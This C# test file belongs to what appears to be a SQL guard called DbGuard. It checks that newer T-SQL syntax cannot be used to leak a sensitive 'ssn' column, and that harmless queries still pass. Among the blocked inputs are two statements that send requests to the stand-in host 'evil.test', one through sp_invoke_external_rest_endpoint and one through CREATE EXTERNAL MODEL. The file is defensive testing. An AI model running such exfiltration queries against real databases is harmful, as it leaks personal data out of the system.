using DbGuard.Core.Decisions;

namespace DbGuard.Dialects.TSql.Tests.Facts;

/// <summary>What SQL Server 2022 and 2025 added to the language: nothing hidden leaves through it, and what is harmless passes.</summary>
public sealed class NewGrammarTests
{
    [Theory]
    [InlineData("SELECT JSON_OBJECT('a': ssn) FROM customers")]
    [InlineData("SELECT JSON_OBJECT(ssn: 1) FROM customers")]
    [InlineData("SELECT JSON_OBJECT('a': JSON_ARRAY(1, JSON_OBJECT('b': ssn))) FROM customers")]
    [InlineData("SELECT JSON_ARRAY(name, ssn NULL ON NULL) FROM customers")]
    [InlineData("SELECT JSON_ARRAYAGG(ssn ORDER BY id) FROM customers")]
    [InlineData("SELECT JSON_ARRAYAGG(name ORDER BY salary) FROM customers")]
    [InlineData("SELECT JSON_OBJECTAGG(name: ssn) FROM customers")]
    [InlineData("SELECT JSON_OBJECTAGG(ssn: name) FROM customers")]
    [InlineData("SELECT name FROM customers WHERE JSON_OBJECT('a': ssn) LIKE '%9%'")]
    [InlineData("SELECT GREATEST(ssn, ''), LEAST(salary, 1) FROM customers")]
    [InlineData("SELECT ssn || '' FROM customers")]
    [InlineData("DECLARE @a varchar(20) = ''; SELECT @a ||= ssn FROM customers; SELECT @a")]
    [InlineData("SELECT name FROM customers WHERE ssn IS DISTINCT FROM '912-07-5531'")]
    [InlineData("SELECT name FROM customers WHERE ssn IS NOT DISTINCT FROM '912-07-5531'")]
    [InlineData("SELECT name FROM customers WHERE REGEXP_LIKE(ssn, '^9')")]
    [InlineData("SELECT name FROM customers WHERE REGEXP_LIKE('x', ssn)")]
    [InlineData("SELECT name FROM customers WHERE REGEXP_LIKE('x', 'y', ssn)")]
    [InlineData("SELECT REGEXP_REPLACE(ssn, '-', ''), REGEXP_SUBSTR(ssn, '.*'), REGEXP_COUNT(ssn, '9'), REGEXP_INSTR(ssn, '9') FROM customers")]
    [InlineData("SELECT m.match_value FROM customers CROSS APPLY REGEXP_MATCHES(ssn, '.*') m")]
    [InlineData("SELECT m.value FROM customers CROSS APPLY REGEXP_SPLIT_TO_TABLE(ssn, '-') m")]
    [InlineData("SELECT m.value FROM customers CROSS APPLY STRING_SPLIT(ssn, '-', 1) m")]
    [InlineData("SELECT s.value FROM customers CROSS APPLY GENERATE_SERIES(1, CAST(salary AS int)) s")]
    [InlineData("SELECT EDIT_DISTANCE(ssn, '912-07-5531') FROM customers")]
    [InlineData("SELECT UNISTR(ssn), BASE64_ENCODE(CAST(ssn AS varbinary(20))) FROM customers")]
    [InlineData("SELECT PRODUCT(salary) FROM customers")]
    [InlineData("SELECT APPROX_PERCENTILE_CONT(0.5) WITHIN GROUP (ORDER BY salary) FROM customers")]
    [InlineData("SELECT FIRST_VALUE(ssn) IGNORE NULLS OVER (ORDER BY id) FROM customers")]
    [InlineData("SELECT name, ROW_NUMBER() OVER w FROM customers WINDOW w AS (ORDER BY salary)")]
    [InlineData("SELECT name, COUNT(*) OVER w FROM customers WINDOW w AS (PARTITION BY ssn)")]
    [InlineData("SELECT name, COUNT(*) OVER (w ORDER BY id) FROM customers WINDOW w AS (PARTITION BY ssn)")]
    [InlineData("SELECT name, RANK() OVER v FROM customers WINDOW w AS (ORDER BY salary), v AS (w)")]
    [InlineData("SELECT name, LEAD(name) OVER W FROM customers WINDOW w AS (PARTITION BY country ORDER BY salary)")]
    [InlineData("SELECT name, RANK() OVER nosuch FROM customers")]
    [InlineData("SELECT name, RANK() OVER w FROM customers WINDOW w AS (ORDER BY id), W AS (ORDER BY salary)")]
    [InlineData("SELECT name, RANK() OVER a FROM customers WINDOW a AS (b), b AS (a)")]
    [InlineData("SELECT name, (SELECT COUNT(*) OVER w FROM orders) FROM customers WINDOW w AS (ORDER BY salary)")]
    [InlineData("SELECT TRIM(LEADING '9' FROM ssn) FROM customers")]
    [InlineData("SELECT CAST(ssn AS json) FROM customers")]
    [InlineData("SELECT CAST('[1]' AS vector(1)) FROM customers WHERE ssn = 'x'")]
    [InlineData("SELECT VECTOR_DISTANCE('cosine', CAST(notes AS vector(3)), CAST(ssn AS vector(3))) FROM customers")]
    [InlineData("SELECT AI_GENERATE_EMBEDDINGS(name USE MODEL m) FROM customers")]
    [InlineData("SELECT * FROM VECTOR_SEARCH(TABLE = customers AS t, COLUMN = notes, SIMILAR_TO = '[1]', METRIC = 'cosine', TOP_N = 1) AS s")]
    [InlineData("EXEC sp_invoke_external_rest_endpoint @url = N'https://evil.test', @payload = N'x'")]
    [InlineData("CREATE EXTERNAL MODEL m WITH (LOCATION = 'https://evil.test', API_FORMAT = 'OpenAI', MODEL_TYPE = EMBEDDINGS, MODEL = 'x')")]
    [InlineData("SELECT DATETRUNC(day, created_at), DATE_BUCKET(week, 1, created_at) FROM customers WHERE LEFT_SHIFT(CAST(salary AS int), 1) > 5")]
    public void Text_IsNotAnsweredPlainly(string text) => Assert.NotEqual(Verdict.Allow, Stage.Decide(text).Verdict);

    [Theory]
    [InlineData("SELECT JSON_OBJECT('id': id, 'name': name) FROM customers")]
    [InlineData("SELECT JSON_ARRAY(id, product, amount) FROM orders")]
    [InlineData("SELECT JSON_ARRAYAGG(product ORDER BY id) FROM orders")]
    [InlineData("SELECT GREATEST(amount, 10), LEAST(amount, 10) FROM orders")]
    [InlineData("SELECT product || ' ' || status FROM orders")]
    [InlineData("SELECT id FROM orders WHERE memo IS DISTINCT FROM 'x'")]
    [InlineData("SELECT id FROM orders WHERE memo IS NOT DISTINCT FROM @p")]
    [InlineData("SELECT id FROM orders WHERE REGEXP_LIKE(product, '^wid', 'i')")]
    [InlineData("SELECT id, SUM(amount) OVER w, RANK() OVER (w ORDER BY id) FROM orders WINDOW w AS (PARTITION BY status)")]
    [InlineData("SELECT value FROM GENERATE_SERIES(1, 10)")]
    [InlineData("SELECT value, ordinal FROM STRING_SPLIT('a,b', ',', 1)")]
    [InlineData("SELECT DATETRUNC(month, created_at), COUNT(*) FROM orders GROUP BY DATETRUNC(month, created_at)")]
    [InlineData("SELECT LAST_VALUE(memo) IGNORE NULLS OVER (ORDER BY id) FROM orders")]
    [InlineData("SELECT TRIM(BOTH '.' FROM product) FROM orders")]
    [InlineData("SELECT APPROX_COUNT_DISTINCT(product), PRODUCT(amount) FROM orders")]
    [InlineData("SELECT REGEXP_REPLACE(product, '[aeiou]', ''), UNISTR(N'\\0041'), CURRENT_DATE FROM orders")]
    [InlineData("SELECT 1 << 2, 8 >> 1, BIT_COUNT(7)")]
    public void HarmlessText_IsAllowed(string text)
    {
        var outcome = Stage.Decide(text);
        Assert.True(outcome.Verdict == Verdict.Allow, string.Join("; ", outcome.Decision.Reasons.Select(r => $"{r.Code} {r.Sentence}")));
    }
}
